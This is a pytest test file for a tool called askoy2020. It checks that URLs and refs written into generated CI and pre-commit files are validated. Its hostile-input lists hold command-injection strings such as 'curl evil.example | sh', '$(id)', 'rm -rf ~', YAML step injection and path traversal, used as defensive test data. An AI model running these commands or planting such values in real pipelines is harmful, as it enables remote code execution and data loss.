"""Where CI installs askoy2020 from: a URL and ref that reach the YAML and
the shell of the recipes exactly as given – or are refused. Any text is
tried (hypothesis); a hostile one must never add a step, a key or a shell
word. The default comes from what pip recorded when it installed the tool."""

from __future__ import annotations

import json
import shlex
import subprocess
from pathlib import Path
from typing import Any

import pytest
import yaml
from hypothesis import event, example, given
from hypothesis import strategies as st

from askoy2020.core import install_source
from askoy2020.core.install_source import InstallSource, check_ref, check_url, default_source
from askoy2020.scaffold import ci_files

HOSTILE_URLS = [
    'https://git.example.org/a"; curl evil.example | sh; echo "',
    "https://git.example.org/a\n      - run: curl evil.example | sh",
    "https://git.example.org/a #comment",
    "https://token:x-oauth@git.example.org/askoy2020.git",
    "https://git.example.org/${{ secrets.TOKEN }}",
    "https://git.example.org/$(id)",
    "https://git.example.org/`id`",
    "https://git.example.org/a'b",
    "https://git.example.org/a?ref=main",
    "https://git.example.org/a@v1",
    "https://git.example.org/../../etc",
    "https://git.example.org/%2e%2e/etc",
    "http://git.example.org/askoy2020.git",
    "ssh://git@git.example.org/askoy2020.git",
    "git@git.example.org:askoy/askoy2020.git",
    "https://git.example.org",
    "https://-bad.example.org/x",
    "file:///tmp/a b",
    "https://git.example.org/a: b",
    "https://git.example.org/" + "a" * 400,
    "https://gît.example.org/x",
    "file:///tmp/verktøy/askoy2020",  # percent-encode it (Path.as_uri)
    "https://git.example.org/x\u2028y",
]
HOSTILE_REFS = ["v1; rm -rf ~", "v1\n- run: x", "v1 #x", "$(id)", "-v1", "v1..v2", "v1.lock", "v1@x", "v1/", "HEAD",
                "v1:x", "v1~1", "v1^", "'v1'", "", "a" * 101, "ref\tx"]


@pytest.mark.parametrize("url", HOSTILE_URLS)
def test_a_hostile_url_is_refused(url: str) -> None:
    with pytest.raises(ValueError):
        check_url(url)


@pytest.mark.parametrize("ref", HOSTILE_REFS)
def test_a_hostile_ref_is_refused(ref: str) -> None:
    with pytest.raises(ValueError):
        check_ref(ref)


@pytest.mark.parametrize(("url", "ref"), [
    ("https://git.example.org/askoy/askoy2020.git", "v0.17.0"),
    ("https://github.com/Askoy-kommune/askoy2020", "0123456789abcdef0123456789abcdef01234567"),
    ("https://gitlab.example.no:8443/grupper/kvalitet/askoy2020.git/", "release/2021-1"),
    ("file:///tmp/verkt%C3%B8y%20kopi/askoy2020", "v0.17.0rc1"),  # a path as Path.as_uri() writes it
])
def test_a_plain_url_and_ref_pass_and_reach_every_recipe_as_given(url: str, ref: str) -> None:
    _recipes_carry(InstallSource(check_url(url), check_ref(ref)))


def _recipes_carry(source: InstallSource) -> None:
    """The install step of both CI files is the one command, one shell
    word for the requirement; pre-commit's repo and rev are the two values."""
    files = ci_files(source)
    github = yaml.safe_load(files[".github/workflows/askoy2020.yml"])
    runs = [step["run"] for step in github["jobs"]["validate"]["steps"] if "run" in step]
    assert runs[0] == source.pip_install and len(runs) == 3
    assert github["permissions"] == {"contents": "read"}
    gitlab = yaml.safe_load(files[".gitlab-ci.yml"])
    assert gitlab["askoy2020"]["script"][0] == source.pip_install and len(gitlab["askoy2020"]["script"]) == 4
    assert shlex.split(source.pip_install) == ["pip", "install", f"askoy2020 @ git+{source.url}@{source.ref}"]
    pre_commit = yaml.safe_load(files[".pre-commit-config.yaml"])
    assert pre_commit == {"repos": [{"repo": source.url, "rev": source.ref,
                                     "hooks": [{"id": "askoy2020-fmt"}, {"id": "askoy2020-validate"}]}]}


# What the URL may hold, and what YAML, the shell, pip or GitHub's ${{ }} read as syntax.
_SAFE = "aZ09._~%+-/"
_SYNTAX = "\"'$#@:?& \n\t`{}[],*!|>\\\u2028\x85é"
_PARTS = st.builds("{}{}".format, st.sampled_from("aZ09_"), st.text(st.sampled_from(_SAFE.replace("/", "")), max_size=8))
_TEXT = st.one_of(st.lists(_PARTS, min_size=1, max_size=5).map("/".join),
                  st.text(st.sampled_from(_SAFE), max_size=40),
                  st.lists(st.one_of(st.text(st.sampled_from(_SAFE), min_size=1, max_size=8),
                                     st.sampled_from(_SYNTAX)), max_size=8).map("".join),
                  st.text(max_size=20))


@given(st.one_of(st.builds("https://git.example.org/{}".format, _TEXT), st.builds("file:///{}".format, _TEXT), _TEXT))
@example("https://git.example.org/a%0a")
def test_any_url_is_refused_or_carried_exactly(url: str) -> None:
    _refused_or_carried(url, "v0.17.0")


@given(st.one_of(st.builds("v{}".format, _TEXT), _TEXT))
def test_any_ref_is_refused_or_carried_exactly(ref: str) -> None:
    _refused_or_carried("https://git.example.org/askoy2020.git", ref)


def _refused_or_carried(url: str, ref: str) -> None:
    try:
        source = InstallSource(check_url(url), check_ref(ref))
    except ValueError:
        event("refused")
        return
    event("carried")
    _recipes_carry(source)


# --- The default: what pip recorded ----------------------------------------------

class _FakeDistribution:
    def __init__(self, version: str, direct_url: dict[str, Any] | None, urls: list[str] | None = None) -> None:
        self.version = version
        self._direct = json.dumps(direct_url) if direct_url is not None else None
        self.metadata = {"Project-URL": urls or []}

    def read_text(self, name: str) -> str | None:
        return self._direct if name == "direct_url.json" else None


class _Metadata(dict[str, list[str]]):
    def get_all(self, key: str) -> list[str] | None:
        return self.get(key) or None


def _installed(monkeypatch: pytest.MonkeyPatch, version: str, direct: dict[str, Any] | None,
               urls: list[str] | None = None) -> None:
    fake = _FakeDistribution(version, direct, urls)
    fake.metadata = _Metadata({"Project-URL": urls or []})
    monkeypatch.setattr(install_source, "distribution", lambda name: fake)


COMMIT = "0123456789abcdef0123456789abcdef01234567"


def test_installed_from_a_release_tag_defaults_to_that_tag(monkeypatch: pytest.MonkeyPatch) -> None:
    _installed(monkeypatch, "0.17.0", {"url": "https://git.example.org/askoy2020.git",
                                       "vcs_info": {"vcs": "git", "commit_id": COMMIT, "requested_revision": "v0.17.0"}})
    assert default_source() == InstallSource("https://git.example.org/askoy2020.git", "v0.17.0", "installed")


def test_installed_between_tags_defaults_to_the_commit(monkeypatch: pytest.MonkeyPatch) -> None:
    _installed(monkeypatch, "0.17.1.dev3+g0123456", {"url": "https://git.example.org/askoy2020.git",
                                                     "vcs_info": {"vcs": "git", "commit_id": COMMIT,
                                                                  "requested_revision": "main"}})
    assert default_source() == InstallSource("https://git.example.org/askoy2020.git", COMMIT, "installed")


def test_a_recorded_path_pip_decoded_is_encoded_again(monkeypatch: pytest.MonkeyPatch) -> None:
    """pip writes file:///a b into direct_url.json for the file:///a%20b it installed."""
    _installed(monkeypatch, "0.17.0", {"url": "file:///srv/verktøy kopi/askoy2020",
                                       "vcs_info": {"vcs": "git", "commit_id": COMMIT}})
    assert default_source() == InstallSource("file:///srv/verkt%C3%B8y%20kopi/askoy2020", "v0.17.0", "installed")
    assert default_source() == InstallSource(Path("/srv/verktøy kopi/askoy2020").as_uri(), "v0.17.0", "installed")


def test_a_recorded_url_with_a_token_is_no_default(monkeypatch: pytest.MonkeyPatch) -> None:
    _installed(monkeypatch, "0.17.0", {"url": "https://ghp_secret@git.example.org/askoy2020.git",
                                       "vcs_info": {"vcs": "git", "commit_id": COMMIT}})
    assert default_source() is None


def test_a_wheel_from_an_index_defaults_to_its_source_url_at_its_tag(monkeypatch: pytest.MonkeyPatch) -> None:
    _installed(monkeypatch, "0.18.2", None, ["Documentation, https://docs.example.org",
                                              "Source, https://git.example.org/askoy2020.git"])
    assert default_source() == InstallSource("https://git.example.org/askoy2020.git", "v0.18.2", "project-url")
    _installed(monkeypatch, "0.18.3.dev1", None, ["Source, https://git.example.org/askoy2020.git"])
    assert default_source() is None  # no tag to pin


@pytest.mark.parametrize(("remote", "url"), [("git@git.example.org:askoy/askoy2020.git",
                                              "https://git.example.org/askoy/askoy2020.git"),
                                             ("https://git.example.org/askoy2020", "https://git.example.org/askoy2020")])
def test_an_editable_checkout_defaults_to_its_origin(monkeypatch: pytest.MonkeyPatch, tmp_path: Path,
                                                     remote: str, url: str) -> None:
    git = ["git", "-C", str(tmp_path)]
    subprocess.run([*git, "init", "-q"], check=True)
    subprocess.run([*git, "remote", "add", "origin", remote], check=True)
    subprocess.run([*git, "-c", "user.name=a", "-c", "user.email=a@example.invalid", "commit", "-q",
                    "--allow-empty", "-m", "x"], check=True)
    head = subprocess.run([*git, "rev-parse", "HEAD"], capture_output=True, text=True, check=True).stdout.strip()
    _installed(monkeypatch, "0.17.1.dev2+g1234567", {"url": tmp_path.as_uri(), "dir_info": {"editable": True}})
    assert default_source() is None  # a commit origin does not have: CI could not fetch it (red team)
    subprocess.run([*git, "update-ref", "refs/remotes/origin/main", "HEAD"], check=True)  # as after a push
    assert default_source() == InstallSource(url, head, "checkout")
    subprocess.run([*git, "-c", "user.name=a", "-c", "user.email=a@example.invalid", "commit", "-q",
                    "--allow-empty", "-m", "only here"], check=True)
    assert default_source() is None
    _installed(monkeypatch, "0.17.0", {"url": tmp_path.as_uri(), "dir_info": {"editable": True}})
    assert default_source() == InstallSource(url, "v0.17.0", "checkout")


def test_a_copy_with_no_record_has_no_default(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    _installed(monkeypatch, "0.17.0", {"url": tmp_path.as_uri(), "dir_info": {}})  # not a git checkout
    assert default_source() is None
    _installed(monkeypatch, "0.17.0", None)
    assert default_source() is None


def test_pinned_says_a_tag_or_commit_from_a_branch() -> None:
    assert InstallSource("https://x.example/a", "v0.17.0").pinned
    assert InstallSource("https://x.example/a", COMMIT).pinned
    assert not InstallSource("https://x.example/a", "main").pinned
    assert not InstallSource("https://x.example/a", "feature/new-rules").pinned
